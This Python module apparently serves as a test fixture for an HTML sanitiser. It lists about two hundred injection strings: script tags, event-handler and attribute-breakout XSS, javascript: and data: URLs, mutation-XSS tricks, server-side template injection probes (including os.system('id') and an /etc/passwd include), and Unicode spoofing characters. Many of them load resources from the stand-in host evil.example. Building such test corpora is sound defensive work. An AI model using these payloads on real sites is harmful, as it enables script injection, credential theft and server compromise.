# ruff: noqa: E501
"""Two hundred texts that would run a script, fetch from elsewhere, or disguise themselves, if a page let them."""

from __future__ import annotations

PWN = "window.__pwned=1"
EVIL = "//evil.example/x"

_TAGS = [
    f"<script>{PWN}</script>", f"<SCRIPT>{PWN}</SCRIPT>", f"<script >{PWN}</script >", f"<script\n>{PWN}</script\n>",
    f"<script src={EVIL}></script>", f"<script src='https:{EVIL}'></script>", f'<script type=module src="{EVIL}"></script>',
    f"<scr<script>ipt>{PWN}</scr</script>ipt>", f"<<script>{PWN}//<</script>", f"<script/x>{PWN}</script>",
    f"<script>{PWN}", f"</script><script>{PWN}</script>", f"<!--><script>{PWN}</script>-->", f"<![CDATA[<script>{PWN}</script>]]>",
    f"<script>fetch('{EVIL}')</script>", f"<script>import('{EVIL}')</script>", f"<script nonce=''>{PWN}</script>",
    f"<script type=importmap>{{}}</script><script>{PWN}</script>", f"<script>alert(1);{PWN}</script>", f"<script>eval('{PWN}')</script>",
    f"<iframe src=javascript:parent.{PWN}></iframe>", f"<iframe srcdoc='<script>parent.{PWN}</script>'></iframe>",
    f"<iframe src={EVIL}></iframe>", f"<object data=javascript:{PWN}></object>", f"<object data={EVIL}></object>",
    f"<embed src=javascript:{PWN}>", f"<embed src={EVIL}>", f"<applet code={EVIL}></applet>", f"<frame src={EVIL}>",
    f"<frameset onload={PWN}>", f"<link rel=stylesheet href={EVIL}>", f"<link rel=preload as=image href={EVIL}>",
    f"<link rel=prefetch href={EVIL}>", f"<link rel=import href={EVIL}>", f"<link rel=icon href={EVIL}>",
    f"<link rel=dns-prefetch href={EVIL}>", f"<meta http-equiv=refresh content='0;url=https:{EVIL}'>",
    f"<meta http-equiv=refresh content='0;javascript:{PWN}'>", "<meta http-equiv=Content-Security-Policy content=\"script-src *\">",
    f"<meta http-equiv=Set-Cookie content='a={EVIL}'>", f"<base href=https:{EVIL}>", f"<style>@import '{EVIL}';</style>",
    f"<style>body{{background:url({EVIL})}}</style>", "<style>*{display:none!important}</style>",
    f"<style>@font-face{{font-family:a;src:url({EVIL})}}*{{font-family:a}}</style>", f"<style onload={PWN}></style>",
    f"<form action=https:{EVIL}><button>Log in</button></form>", f"<form action=javascript:{PWN}><input type=submit></form>",
    f"<button formaction=javascript:{PWN}>Go</button>", f"<input type=image src={EVIL}>", f"<isindex action=javascript:{PWN}>",
    f"<portal src={EVIL}></portal>", f"<template><script>{PWN}</script></template>", f"<noscript><p title='</noscript><img src=x onerror={PWN}>'>",
    f"<xmp><script>{PWN}</script></xmp>", f"<plaintext><script>{PWN}</script>", f"<textarea><script>{PWN}</script></textarea>",
    f"</textarea><script>{PWN}</script>", f"</title><script>{PWN}</script>", f"</style><script>{PWN}</script>",
    f"</option></select><script>{PWN}</script>", f"</pre></code><script>{PWN}</script>", f"</bdi></a><script>{PWN}</script>",
    f"</svg><script>{PWN}</script>", f"</dialog><script>{PWN}</script>", f"--><script>{PWN}</script><!--",
]  # fmt: skip
_HANDLERS = [
    f"<img src=x onerror={PWN}>", f"<img src={EVIL}>", f"<img srcset={EVIL}>", f"<img/src=x/onerror={PWN}>", f"<img src=x onerror='{PWN}'>",
    f'<img src="x" onerror="{PWN}">', f"<img src=x oNeRrOr={PWN}>", f"<img src=`x` onerror={PWN}>", f"<img \x09src=x onerror={PWN}>",
    f"<img src=x:x onerror\n=\n{PWN}>", f"<image src=x onerror={PWN}>", f"<body onload={PWN}>", f"<svg onload={PWN}>", f"<svg/onload={PWN}>",
    f"<svg><script>{PWN}</script></svg>", f"<svg><script href={EVIL} /></svg>", f"<svg><image href={EVIL} /></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={PWN}>#x'/></svg>", f"<svg><animate onbegin={PWN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{PWN}>", f"<svg><a xlink:href=javascript:{PWN}><text>x</text></a></svg>",
    f"<svg><foreignObject><iframe src=javascript:{PWN}></iframe></foreignObject></svg>", f"<svg><style>@import '{EVIL}'</style></svg>",
    f"<svg><feImage href={EVIL} /></svg>", f"<svg><title><img src=x onerror={PWN}></title></svg>", f"<math><mtext><img src=x onerror={PWN}></math>",
    f"<math href=javascript:{PWN}>x</math>", f"<video src={EVIL} onerror={PWN}></video>", f"<video poster={EVIL}></video>",
    f"<video><source onerror={PWN}></video>", f"<audio src={EVIL} onerror={PWN}></audio>", f"<audio autoplay onloadstart={PWN} src=x></audio>",
    f"<details open ontoggle={PWN}>x</details>", f"<input autofocus onfocus={PWN}>", f"<select autofocus onfocus={PWN}></select>",
    f"<textarea autofocus onfocus={PWN}></textarea>", f"<marquee onstart={PWN}>x</marquee>", f"<div onmouseover={PWN}>x</div>",
    f"<div onpointerenter={PWN} style=position:fixed;inset:0>x</div>", f"<a href=javascript:{PWN} id=x tabindex=1 onfocus={PWN}>x</a>",
    f"<div style=\"background:url({EVIL})\">x</div>", f"<div style=\"width:expression({PWN})\">x</div>", f"<div style='animation-name:x' onanimationend={PWN}>x</div>",
    f"<xss onclick={PWN} tabindex=1>x</xss>", f"<custom-tag onanimationstart={PWN}>x</custom-tag>", f"<dialog open onclose={PWN}>x</dialog>",
    f"<keygen autofocus onfocus={PWN}>", f"<track onerror={PWN} src=x>", f"<table background={EVIL}><tr><td>x</table>", f"<td background={EVIL}>x",
]  # fmt: skip
_BREAKS = [
    f'"><script>{PWN}</script>', f"'><script>{PWN}</script>", f"`><script>{PWN}</script>", f'" onfocus="{PWN}" autofocus="', f"' onfocus='{PWN}' autofocus='",
    f'" onmouseover={PWN} x="', f'"/><img src=x onerror={PWN}>', f"' /><img src=x onerror={PWN}>", f'" style="background:url({EVIL})', f'" href="javascript:{PWN}',
    f'" formaction="javascript:{PWN}', f'"; {PWN}; //', f"'; {PWN}; //", f"\\'; {PWN}; //", f"${{{PWN}}}", f"`${{{PWN}}}`", f'"></a><script>{PWN}</script>',
    f'"></svg><script>{PWN}</script>', f'"></option><script>{PWN}</script>', f"\" title='\" onload={PWN}", f"x onerror={PWN}", f"x' onerror={PWN} y='", "\"'`<>&;/=",
    "&quot;&gt;&lt;script&gt;", f"&#34; onfocus=&#34;{PWN}", f"&lt;script&gt;{PWN}&lt;/script&gt;", f"&#x3c;script&#x3e;{PWN}&#x3c;/script&#x3e;", "&amp;lt;b&amp;gt;", "&NewLine;&Tab;",
]  # fmt: skip
_SCHEMES = [
    f"javascript:{PWN}", f"JaVaScRiPt:{PWN}", f"java\tscript:{PWN}", f"&#106;avascript:{PWN}", f"javascript&colon;{PWN}", f"vbscript:{PWN}",
    f"data:text/html,<script>{PWN}</script>", "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+", f"view-source:javascript:{PWN}",
    f"[x](javascript:{PWN})", f"![x](https:{EVIL})", f"[x]: javascript:{PWN}", f"<javascript:{PWN}>", f"<https:{EVIL}>", f"https:{EVIL}", f"{EVIL}",
    f"[x](data:text/html,<script>{PWN}</script>)", f"![x](x \"onerror={PWN}\")", f"```html\n<script>{PWN}</script>\n```", f"# <img src=x onerror={PWN}>",
    f"[<img src=x onerror={PWN}>](x)", f"| a | <script>{PWN}</script> |", f"> <svg onload={PWN}>", f"<a href='&#x6A;avascript:{PWN}'>x</a>",
    f"<a href='java&#10;script:{PWN}'>x</a>", f"<a href=https:{EVIL} ping=https:{EVIL}>x</a>", f"<a target=_blank href=https:{EVIL}>x</a>",
]  # fmt: skip
_TEMPLATES = [
    "{{ 7 * 7 }}", "{{ config }}", "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", "{{ v.token }}", "{{ ''.__class__.__mro__ }}",
    "{% raw %}", "{% endblock %}", "{% include '/etc/passwd' %}", "{# comment #}", "{{'<script>'|safe}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "@(7*7)", "%s %n %x",
    "{0.__class__}", "{{constructor.constructor('window.__pwned=1')()}}", "__import__('os').system('id')",
]  # fmt: skip
_DISGUISES = [
    "\u202e<txet neddih>", "\u2066isolated\u2069 \u2067other way\u2069", "a\u200bb\u200cc\u200dd", "\ufeffwith a mark", "\u202dforced\u202c", "\u061cletter mark",
    "admin\u2028second line", "admin\u2029paragraph", "bell\x07 and escape\x1b[31m", "\x85next line", "soft\u00adhyphen", "tag\U000e0041\U000e0042", "\uff1cscript\uff1e" + PWN,
    f"\u2039script\u203a{PWN}", f"\u226e\u226f<script>{PWN}</script>", "Z\u0351\u034b\u0343a\u0301\u0301\u0301\u0301l\u0321g\u0322o", "\u0440\u0430\u0443\u0440\u0430l", "\U0001f9d1\u200d\U0001f4bb\U0001f3f4",
]  # fmt: skip
_MUTATIONS = [
    f"<svg></p><style><a id=\"</style><img src=1 onerror={PWN}>\">", f"<math><mi><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={PWN}&gt;\">",
    f"<noscript><style></noscript><img src=x onerror={PWN}>", f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={PWN}>",
    f"<table><td><svg><desc><td><img src=x onerror={PWN}>", f"<p><style><x title='</style><img src onerror={PWN}>'>", f"<img alt=\"`><img src=x onerror={PWN}>\">",
    f"<listing>&lt;img src=x onerror={PWN}&gt;</listing>", f"<div id=__proto__><a name=x id=x onclick={PWN}>", "<form id=help><input name=showModal></form>",
    f"<select><template><script>{PWN}</script></template></select>", f"<b><a><b><p><script>{PWN}</script>", "<a id=main></a><a id=main name=x></a>", f"<annotation-xml encoding=text/html><script>{PWN}</script>",
]  # fmt: skip

PAYLOADS = [*_TAGS, *_HANDLERS, *_BREAKS, *_SCHEMES, *_TEMPLATES, *_DISGUISES, *_MUTATIONS]
